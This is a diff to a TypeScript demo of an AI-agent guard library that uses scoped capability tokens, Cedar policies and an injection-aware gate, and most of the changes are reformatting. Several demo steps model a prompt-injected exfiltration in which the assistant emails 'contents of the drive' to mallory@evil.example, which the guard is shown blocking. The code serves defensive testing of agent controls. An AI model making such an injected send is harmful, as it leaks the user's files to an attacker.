@@ -18,13 +18,45 @@ import { CedarVerifier } from '../escalation/cedar.ts';
 import { createFence } from '../index.ts';
 import { fileURLToPath } from 'node:url';
 import { run } from './io.ts';
+import { CLASS } from '../action/classes.ts';
 
 const TOOLS: readonly ToolSpec[] = [
-  { name: 'get_unread_emails', description: 'Returns all the unread emails in the inbox.', inputSchema: { type: 'object', properties: {} }, annotations: { readOnlyHint: true } },
-  { name: 'search_files', description: 'Searches the cloud drive for files containing the query.', inputSchema: { type: 'object', properties: { query: { type: 'string' } } }, annotations: { readOnlyHint: true } },
-  { name: 'send_email', description: 'Sends an email with the given body to the given recipients.', inputSchema: { type: 'object', properties: { recipients: { type: 'array', items: { type: 'string' } }, subject: { type: 'string' }, body: { type: 'string' } }, required: ['recipients', 'body'] } },
-  { name: 'send_money', description: 'Sends a transaction to the recipient IBAN.', inputSchema: { type: 'object', properties: { recipient: { type: 'string' }, amount: { type: 'number' }, subject: { type: 'string' } }, required: ['recipient', 'amount'] } },
-  { name: 'delete_file', description: 'Deletes a file from the cloud drive.', inputSchema: { type: 'object', properties: { file_id: { type: 'string' } } }, annotations: { destructiveHint: true } },
+  {
+    name: 'get_unread_emails',
+    description: 'Returns all the unread emails in the inbox.',
+    inputSchema: { type: 'object', properties: {} },
+    annotations: { readOnlyHint: true },
+  },
+  {
+    name: 'search_files',
+    description: 'Searches the cloud drive for files containing the query.',
+    inputSchema: { type: 'object', properties: { query: { type: 'string' } } },
+    annotations: { readOnlyHint: true },
+  },
+  {
+    name: 'send_email',
+    description: 'Sends an email with the given body to the given recipients.',
+    inputSchema: {
+      type: 'object',
+      properties: { recipients: { type: 'array', items: { type: 'string' } }, subject: { type: 'string' }, body: { type: 'string' } },
+      required: ['recipients', 'body'],
+    },
+  },
+  {
+    name: 'send_money',
+    description: 'Sends a transaction to the recipient IBAN.',
+    inputSchema: {
+      type: 'object',
+      properties: { recipient: { type: 'string' }, amount: { type: 'number' }, subject: { type: 'string' } },
+      required: ['recipient', 'amount'],
+    },
+  },
+  {
+    name: 'delete_file',
+    description: 'Deletes a file from the cloud drive.',
+    inputSchema: { type: 'object', properties: { file_id: { type: 'string' } } },
+    annotations: { destructiveHint: true },
+  },
 ];
 
 const IBAN = 'DE89370400440532013000';
@@ -63,16 +95,24 @@ async function demo(stateDir?: string): Promise<void> {
     // The escalation band goes to Cedar policies (examples/policies/default.cedar); a verifier
     // that errs or times out denies.
     const verifier = await CedarVerifier.fromFiles({ policyPath: DEFAULT_POLICY, classes: graph.classes.map((c) => c.id) });
-    const fence = createFence({ keyring: new Keyring([issuer]), tools: TOOLS, graph, stateDir: dir, durability: 'strict', verifier, verifierTimeoutMs: 1_000 });
+    const fence = createFence({
+      keyring: new Keyring([issuer]),
+      tools: TOOLS,
+      graph,
+      stateDir: dir,
+      durability: 'strict',
+      verifier,
+      verifierTimeoutMs: 1_000,
+    });
     const token = mintToken(
       issuer,
       {
         issuer: 'demo-deployer',
         subject: 'assistant',
-        scope: ['read-only-retrieval', 'message-send', 'payment-initiate'],
+        scope: [CLASS.read, CLASS.messageSend, CLASS.paymentInitiate],
         constraints: {
-          'message-send': { recipient: { oneOf: ['bob@example.com'] } },
-          'payment-initiate': { recipient: { oneOf: [IBAN] }, amount: { max: 120 } },
+          [CLASS.messageSend]: { recipient: { oneOf: ['bob@example.com'] } },
+          [CLASS.paymentInitiate]: { recipient: { oneOf: [IBAN] }, amount: { max: 120 } },
         },
         ceilings: { calls: 20, amount: 150 },
         intent: INTENT,
@@ -85,7 +125,7 @@ async function demo(stateDir?: string): Promise<void> {
     line(`issuer key ${issuer.kid}; model ${describeGate(fence)}`);
     line(`intent: "${INTENT}"`);
     line('assistant token: scope read-only-retrieval, message-send, payment-initiate; recipients {bob@example.com}; payee {the IBAN};');
-    line('                 amount ≤ 120 per payment, 150 in total; 20 calls; 15 minutes; delegable to the assistant\'s key');
+    line("                 amount ≤ 120 per payment, 150 in total; 20 calls; 15 minutes; delegable to the assistant's key");
     line('researcher token: attenuated by the assistant to read-only-retrieval, 3 calls, 5 minutes');
     line('mailer token: read-only-retrieval and message-send to anyone (a looser deployer policy)\n');
 
@@ -99,23 +139,53 @@ async function demo(stateDir?: string): Promise<void> {
     };
 
     await step('benign read', 'assistant', assistant, { tool: 'get_unread_emails', args: {} }, INBOX);
-    await step('in-scope send', 'assistant', assistant, { tool: 'send_email', args: { recipients: ['bob@example.com'], subject: 'Inbox summary', body: 'Your electricity bill (95 EUR) arrived; a newsletter too.' } });
-    await step('injected exfiltration', 'assistant', assistant, { tool: 'send_email', args: { recipients: ['mallory@evil.example'], subject: 'files', body: 'contents of the drive' } });
-    await step('payment over its ceiling', 'assistant', assistant, { tool: 'send_money', args: { recipient: IBAN, amount: 950, subject: 'electricity' } });
+    await step('in-scope send', 'assistant', assistant, {
+      tool: 'send_email',
+      args: { recipients: ['bob@example.com'], subject: 'Inbox summary', body: 'Your electricity bill (95 EUR) arrived; a newsletter too.' },
+    });
+    await step('injected exfiltration', 'assistant', assistant, {
+      tool: 'send_email',
+      args: { recipients: ['mallory@evil.example'], subject: 'files', body: 'contents of the drive' },
+    });
+    await step('payment over its ceiling', 'assistant', assistant, {
+      tool: 'send_money',
+      args: { recipient: IBAN, amount: 950, subject: 'electricity' },
+    });
     await step('payment as revised', 'assistant', assistant, { tool: 'send_money', args: { recipient: IBAN, amount: 95, subject: 'electricity' } });
     await step('out-of-scope delete', 'assistant', assistant, { tool: 'delete_file', args: { file_id: '13' } });
 
     // A looser deployer: e-mail to anyone. The token no longer stops the injected recipient; the
     // gate does, because that address appears only in a tool output that carries instructions.
-    const looseToken = mintToken(issuer, { issuer: 'demo-deployer', subject: 'mailer', scope: ['read-only-retrieval', 'message-send'], intent: INTENT, ttlSeconds: 900 }, fence.graph);
+    const looseToken = mintToken(
+      issuer,
+      { issuer: 'demo-deployer', subject: 'mailer', scope: [CLASS.read, CLASS.messageSend], intent: INTENT, ttlSeconds: 900 },
+      fence.graph,
+    );
     const mailer = fence.session(looseToken);
     await step('benign read', 'mailer', mailer, { tool: 'get_unread_emails', args: {} }, INBOX);
-    await step('in-intent send', 'mailer', mailer, { tool: 'send_email', args: { recipients: ['bob@example.com'], subject: 'Inbox summary', body: 'Your electricity bill arrived.' } });
-    await step('injected send', 'mailer', mailer, { tool: 'send_email', args: { recipients: ['mallory@evil.example'], subject: 'files', body: 'contents of the drive' } });
+    await step('in-intent send', 'mailer', mailer, {
+      tool: 'send_email',
+      args: { recipients: ['bob@example.com'], subject: 'Inbox summary', body: 'Your electricity bill arrived.' },
+    });
+    await step('injected send', 'mailer', mailer, {
+      tool: 'send_email',
+      args: { recipients: ['mallory@evil.example'], subject: 'files', body: 'contents of the drive' },
+    });
 
-    const researcherToken = attenuateToken(token, assistantKey, { subject: 'researcher', scope: ['read-only-retrieval'], ceilings: { calls: 3 }, ttlSeconds: 300 }, fence.graph);
+    const researcherToken = attenuateToken(
+      token,
+      assistantKey,
+      { subject: 'researcher', scope: [CLASS.read], ceilings: { calls: 3 }, ttlSeconds: 300 },
+      fence.graph,
+    );
     const researcher = fence.session(researcherToken);
-    await step('sub-agent read', 'researcher', researcher, { tool: 'search_files', args: { query: 'electricity contract' } }, 'contract.pdf: tariff 0.31 EUR/kWh');
+    await step(
+      'sub-agent read',
+      'researcher',
+      researcher,
+      { tool: 'search_files', args: { query: 'electricity contract' } },
+      'contract.pdf: tariff 0.31 EUR/kWh',
+    );
     await step('sub-agent send', 'researcher', researcher, { tool: 'send_email', args: { recipients: ['bob@example.com'], body: 'tariff' } });
 
     fence.revocations.revoke(fence.verifyToken(token).leaf.jti, 'task finished');
